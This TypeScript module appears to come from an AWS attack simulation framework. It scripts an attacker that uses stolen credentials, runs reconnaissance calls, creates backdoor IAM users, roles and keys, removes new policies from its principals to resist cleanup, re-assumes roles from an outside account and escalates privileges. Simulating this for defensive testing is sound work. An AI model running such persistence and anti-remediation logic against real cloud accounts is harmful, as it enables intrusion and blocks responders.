import { DescribeInstancesCommand } from '@aws-sdk/client-ec2';
import { ListUsersCommand } from '@aws-sdk/client-iam';
import { GetCallerIdentityCommand } from '@aws-sdk/client-sts';
import type { Foothold, Principal } from './arsenal.js';
import { escalate, type EscalationDeps } from './escalate.js';
import { assume, makeWay, type Way, type WayDeps, type WayKind } from './make-ways.js';
import type { Script, Stage } from './stage.js';
import type { Steal } from './thefts.js';
import { watchPrincipals, type PrincipalWatch } from './watch-principals.js';

/** What a fighter starts from. */
export interface FighterDeps extends EscalationDeps, Omit<WayDeps, 'onMade'> {
  readonly startAfterSeconds: number;
  readonly steal: Steal;
  /** Signs in to the access portal again; undefined where he has no session of it, or it gives nothing any more. */
  readonly signInAgain: () => Foothold | undefined;
}

/** How often it looks at its own policies, and at its credentials (OffensAI/notyet: policy check and health check). */
const POLL_SECONDS = 0.5;
const HEALTH_SECONDS = 5;
/** While fewer ways are left than it wants. */
const HURRY_SECONDS = 1;

/** Ways back it wants alive at any time, besides what it came in with, and how many users and roles it makes at most in all. */
const WANTED_WAYS = 2;
const MAX_MADE = 60;
/** How many of its credentials a health check tries, and how often it leaves a door for another one. */
const CHECKED = 8;
const MAX_ESCALATIONS = 10;

const FIRST_WAYS: readonly WayKind[] = ['user', 'role', 'federated', 'key'];
const MORE_WAYS: readonly WayKind[] = ['user', 'role'];

type Persister = FighterDeps & {
  readonly watch: PrincipalWatch;
  readonly ways: Way[];
  readonly count: { made: number; escalations: number };
};

/**
 * An attacker who fights for his access, as the public tool OffensAI/notyet does: every 0.5 s it looks at what hangs on its
 * principals and takes off what is new, every 5 s it tries its credentials, and it keeps at least two ways back alive.
 */
export function persister(deps: FighterDeps): Script {
  return async (stage) => {
    const first = await arrive(deps, stage);
    if (first === undefined) return;
    const watch = watchPrincipals(deps.arsenal);
    const me: Persister = { ...deps, watch, ways: [], count: { made: 0, escalations: 0 } };
    await stage.beside([(own) => keepWatch(me, { stage: own, first }), (own) => keepWays(me, { stage: own, first })]);
  };
}

/** Comes in with what it stole and looks around. */
export async function arrive(
  { startAfterSeconds, steal, arsenal }: Pick<FighterDeps, 'startAfterSeconds' | 'steal' | 'arsenal'>,
  stage: Stage,
): Promise<Foothold | undefined> {
  await stage.pause(startAfterSeconds);
  if (stage.isStopped()) return undefined;
  const credentials = await steal(stage);
  if (credentials === undefined) {
    stage.say('finds nothing to steal');
    return undefined;
  }
  const first = arsenal.gain(credentials);
  const { sts, ec2, iam } = first.clients;
  await stage.attempt(sts.send(new GetCallerIdentityCommand({})));
  await stage.attempt(ec2.send(new DescribeInstancesCommand({})));
  if (first.callsIam) await stage.attempt(iam.send(new ListUsersCommand({})));
  stage.say(`has ${first.keyId} and is ${first.principal.arn}`);
  return first;
}

/** The principal it came in as at every turn, and one of the others. */
async function keepWatch({ watch, arsenal }: Persister, { stage, first }: { stage: Stage; first: Foothold }): Promise<void> {
  for (let turn = 0; !stage.isStopped(); turn += 1) {
    if (arsenal.footholds.some(({ callsIam }) => callsIam)) {
      await watch.look(stage, first.principal);
      const others = watch.others();
      const other = others[turn % Math.max(1, others.length)];
      if (other !== undefined) await watch.look(stage, other);
    }
    await stage.pause(POLL_SECONDS);
  }
}

async function keepWays(me: Persister, { stage, first }: { stage: Stage; first: Foothold }): Promise<void> {
  if (!first.callsIam) await tryToEscalate(me, { stage, first });
  for (const kind of FIRST_WAYS) await addWay(me, { stage, kind });
  for (let turn = 0; !stage.isStopped(); turn += 1) {
    await stage.pause(me.arsenal.footholds.some(isAble) && aliveWays(me).length < WANTED_WAYS ? HURRY_SECONDS : HEALTH_SECONDS);
    if (stage.isStopped()) return;
    await checkHealth(me, stage);
    const kind = MORE_WAYS[turn % MORE_WAYS.length] ?? 'user';
    if (aliveWays(me).length < WANTED_WAYS && !(await addWay(me, { stage, kind }))) await tryToEscalate(me, { stage, first });
  }
}

function isAble({ callsIam, works }: Foothold): boolean {
  return callsIam && works;
}

/** A federated session makes nothing new, so it does not count. */
function aliveWays({ ways }: Persister): Way[] {
  return ways.filter(({ foothold }) => isAble(foothold));
}

async function addWay(me: Persister, { stage, kind }: { stage: Stage; kind: WayKind }): Promise<boolean> {
  if (me.count.made >= MAX_MADE) return false;
  const onMade = (principal: Principal): void => {
    me.count.made += 1;
    me.watch.expect(principal);
  };
  const way = await makeWay({ ...me, onMade }, { stage, kind });
  if (way !== undefined) me.ways.push(way);
  return way !== undefined;
}

/** Tries its newest credentials and what it came in with, and assumes its roles again from outside. */
async function checkHealth({ arsenal, ways, outsideAccountId, ...deps }: Persister, stage: Stage): Promise<void> {
  const tried = new Set([...arsenal.footholds.slice(0, 1), ...arsenal.footholds.slice(-CHECKED)]);
  await stage.together([...tried].map((foothold) => () => arsenal.check(stage, foothold)));
  for (const way of ways.filter(({ roleArn, foothold }) => roleArn !== undefined && !foothold.works).slice(-2)) {
    const again = await assume({ arsenal }, { stage, by: deps.fromOutside, roleArn: way.roleArn ?? '' });
    if (again !== undefined && (await arsenal.check(stage, again))) {
      stage.say(`is back in ${again.principal.name} from account ${outsideAccountId}`);
      way.foothold = again;
    }
  }
}

async function tryToEscalate(me: Persister, { stage, first }: { stage: Stage; first: Foothold }): Promise<void> {
  if (me.count.escalations >= MAX_ESCALATIONS) return;
  const again = me.signInAgain();
  if (again !== undefined && (await me.arsenal.check(stage, again))) return;
  const from = [first, ...me.arsenal.footholds.toReversed()].find(({ works }) => works);
  if (from === undefined) return;
  me.count.escalations += 1;
  await escalate(me, { stage, from });
}
